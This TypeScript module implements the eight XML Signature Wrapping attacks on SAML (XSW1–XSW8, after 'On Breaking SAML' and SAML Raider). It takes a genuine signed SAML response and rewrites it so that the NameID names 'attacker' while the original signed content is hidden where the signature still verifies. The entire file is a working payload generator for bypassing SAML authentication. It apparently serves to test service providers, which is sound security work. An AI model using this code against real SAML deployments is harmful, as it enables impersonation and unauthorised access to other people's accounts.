import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const DS = 'http://www.w3.org/2000/09/xmldsig#';

interface Parts {
  readonly response: Element;
  readonly assertion: Element;
  /** Of the response or of the assertion: what was signed. */
  readonly signature: Element;
}

type Wrap = (parts: Parts) => void;

/** A copy in which somebody else is named; its own signature goes, or stays to be about something else. */
function forge(original: Element, as: { readonly keeps: 'signature' | 'nothing' }): Element {
  const copy = original.cloneNode(true);
  if (!isElement(copy)) throw new TypeError('not an element');
  copy.setAttribute('ID', '_forged');
  const [nameId] = [...all(copy, 'NameID')];
  if (nameId) nameId.textContent = 'attacker';
  if (as.keeps === 'nothing') for (const signature of own(copy)) copy.removeChild(signature);
  return copy;
}

/** The original without its signature: where the digest still holds. */
function strip(original: Element): Element {
  const copy = original.cloneNode(true);
  if (!isElement(copy)) throw new TypeError('not an element');
  for (const signature of own(copy)) copy.removeChild(signature);
  return copy;
}

const isElement = (node: Node): node is Element => node.nodeType === 1;
const all = (root: Element, name: string): Element[] => Array.from(root.getElementsByTagNameNS('*', name));
const own = (element: Element): Element[] =>
  all(element, 'Signature').filter(({ parentNode }) => parentNode === element);

/** Turns the response into somebody else's, with the original inside the place given by `hide`. */
function forgeResponse({ response, signature }: Parts, hide: (original: Element) => void): void {
  const original = strip(response);
  response.setAttribute('ID', '_forged');
  for (const nameId of all(response, 'NameID')) nameId.textContent = 'attacker';
  hide(original);
  if (signature.parentNode !== response) response.appendChild(signature);
}

/** The eight of Somorovsky and others, "On Breaking SAML" (2012), as SAML Raider numbers them. */
export const WRAPPINGS: Readonly<Record<string, { readonly signs: 'response' | 'assertion'; readonly wrap: Wrap }>> = {
  XSW1: {
    signs: 'response',
    wrap: (parts) => forgeResponse(parts, (original) => parts.signature.appendChild(original)),
  },
  XSW2: {
    signs: 'response',
    wrap: (parts) => forgeResponse(parts, (original) => parts.response.insertBefore(original, parts.signature)),
  },
  XSW3: {
    signs: 'assertion',
    wrap: ({ response, assertion }) => response.insertBefore(forge(assertion, { keeps: 'nothing' }), assertion),
  },
  XSW4: {
    signs: 'assertion',
    wrap({ response, assertion }) {
      const forged = forge(assertion, { keeps: 'nothing' });
      response.replaceChild(forged, assertion);
      forged.appendChild(assertion);
    },
  },
  XSW5: {
    signs: 'assertion',
    wrap({ response, assertion }) {
      response.replaceChild(forge(assertion, { keeps: 'signature' }), assertion);
      response.appendChild(strip(assertion));
    },
  },
  XSW6: {
    signs: 'assertion',
    wrap({ response, assertion }) {
      const forged = forge(assertion, { keeps: 'signature' });
      response.replaceChild(forged, assertion);
      own(forged)[0]?.appendChild(strip(assertion));
    },
  },
  XSW7: {
    signs: 'assertion',
    wrap({ response, assertion }) {
      const extensions = response.ownerDocument.createElementNS(response.namespaceURI, 'samlp:Extensions');
      const forged = forge(assertion, { keeps: 'nothing' });
      forged.setAttribute('ID', assertion.getAttribute('ID') ?? '');
      extensions.appendChild(forged);
      response.insertBefore(extensions, assertion);
    },
  },
  XSW8: {
    signs: 'assertion',
    wrap({ response, assertion }) {
      const forged = forge(assertion, { keeps: 'signature' });
      const object = response.ownerDocument.createElementNS(DS, 'ds:Object');
      object.appendChild(strip(assertion));
      response.replaceChild(forged, assertion);
      own(forged)[0]?.appendChild(object);
    },
  },
};

/** A genuine response, with one signature on what the wrapping wants signed, made to speak of `attacker`. */
export function wrapSignature(genuine: string, name: string): string {
  const response = new DOMParser().parseFromString(genuine, 'text/xml').documentElement;
  const [assertion] = all(response, 'Assertion');
  const { signs, wrap } = WRAPPINGS[name] ?? {};
  const [signature] = assertion ? own(signs === 'response' ? response : assertion) : [];
  if (!assertion || !signature || !wrap) throw new Error('not signed as this wrapping needs');
  wrap({ response, assertion, signature });
  return new XMLSerializer().serializeToString(response);
}
